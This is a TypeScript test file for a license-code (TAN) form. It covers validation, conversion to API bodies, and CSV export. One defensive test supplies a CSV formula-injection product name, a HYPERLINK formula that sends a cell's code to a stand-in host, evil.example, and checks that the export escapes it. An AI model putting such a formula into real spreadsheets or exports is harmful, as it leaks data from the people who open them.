import { describe, expect, it } from 'vitest';
import type { TanItem } from './api/tans.ts';
import { issueMessage } from '@lm/contract';
import { emptyTanForm, tanFormSchema, tansCsv, toTanBody, toTanForm } from './form.ts';

const tan: TanItem = {
  id: 7,
  code: 'abcdefghjkmn',
  productId: 3,
  productName: 'Studio "Pro" 2.0',
  licensePolicyId: null,
  licensePolicyName: null,
  licenseCount: 5,
  activatedCount: 1,
  distributorId: 4,
  distributorName: 'Dora',
  organization: null,
  revoked: false,
  suspended: false,
  validUntil: '2027-06-30',
  policyType: 'INDEFINITE',
  freeUpdatesUntil: '2027-01-31',
  tags: ['fair:2026', 'Müller'],
  entitlements: [],
  metadata: {},
  notes: null,
  createdAt: new Date('2026-01-01T00:00:00.000Z'),
  updatedAt: new Date('2026-01-01T00:00:00.000Z'),
};

describe('the TAN form', () => {
  it('says what is wrong with the count: empty is required, 0 is below the minimum, 11 above the maximum', () => {
    const schema = tanFormSchema(10);
    const problem = (licenseCount: number | string) => issueMessage(schema.safeParse({ ...emptyTanForm, productId: 1, licenseCount }, { reportInput: true }).error!.issues[0]);
    expect(problem('')).toEqual({ key: 'required', params: {} });
    expect(problem(0)).toEqual({ key: 'tooSmall', params: { minimum: 1 } });
    expect(problem(11)).toEqual({ key: 'tooBig', params: { maximum: 10 } });
  });

  it('turns select strings into the ids and nulls the API takes, and back', () => {
    const values = toTanForm(tan);
    const fields = { productId: 3, licensePolicyId: null, licenseCount: 5, distributorId: 4, freeUpdatesUntil: '2027-01-31', validUntil: '2027-06-30', tags: ['fair:2026', 'Müller'] };
    expect(values).toEqual({ ...fields, entitlements: '', metadata: '', notes: '' });
    expect(toTanBody(values)).toEqual({ ...fields, entitlements: [], metadata: {}, notes: null });
    const granted = toTanBody({ ...values, entitlements: 'MAX_PROJECTS=50\nSIMULATION', metadata: 'customer=ACME' });
    expect(granted).toMatchObject({ entitlements: [{ feature: 'MAX_PROJECTS', value: 50 }, { feature: 'SIMULATION', value: null }], metadata: { customer: 'ACME' } });
    expect(toTanBody({ ...values, validUntil: '' as never }).validUntil).toBeNull();
  });

  it('requires a product and a count within the configured maximum, and valid tags', () => {
    const schema = tanFormSchema(10);
    expect(schema.safeParse({ ...emptyTanForm, productId: 1 }).success).toBe(true);
    expect(schema.safeParse(emptyTanForm).success).toBe(false);
    expect(schema.safeParse({ ...emptyTanForm, productId: 1, licenseCount: 11 }).success).toBe(false);
    expect(schema.safeParse({ ...emptyTanForm, productId: 1, licenseCount: '' }).success).toBe(false);
    const badTag = schema.safeParse({ ...emptyTanForm, productId: 1, tags: ['ok', 'not ok'] });
    expect(badTag.error?.issues[0]).toMatchObject({ path: ['tags'], message: 'validation.tanTag' });
  });
});

describe('the CSV of new codes', () => {
  it('has a header and one line per TAN, codes shown in groups of 4, text quoted where needed', () => {
    expect(tansCsv([tan]).split('\r\n')).toEqual(['code,product,licenseCount,freeUpdatesUntil,tags', 'abcd-efgh-jkmn,"Studio ""Pro"" 2.0",5,2027-01-31,fair:2026 Müller', '']);
  });

  it('never lets a spreadsheet run a product name as a formula', () => {
    const line = tansCsv([{ ...tan, productName: '=HYPERLINK("https://evil.example/?c="&A2,"Update") 1.0' }]).split('\r\n')[1];
    expect(line).toBe(`abcd-efgh-jkmn,"'=HYPERLINK(""https://evil.example/?c=""&A2,""Update"") 1.0",5,2027-01-31,fair:2026 Müller`);
  });
});
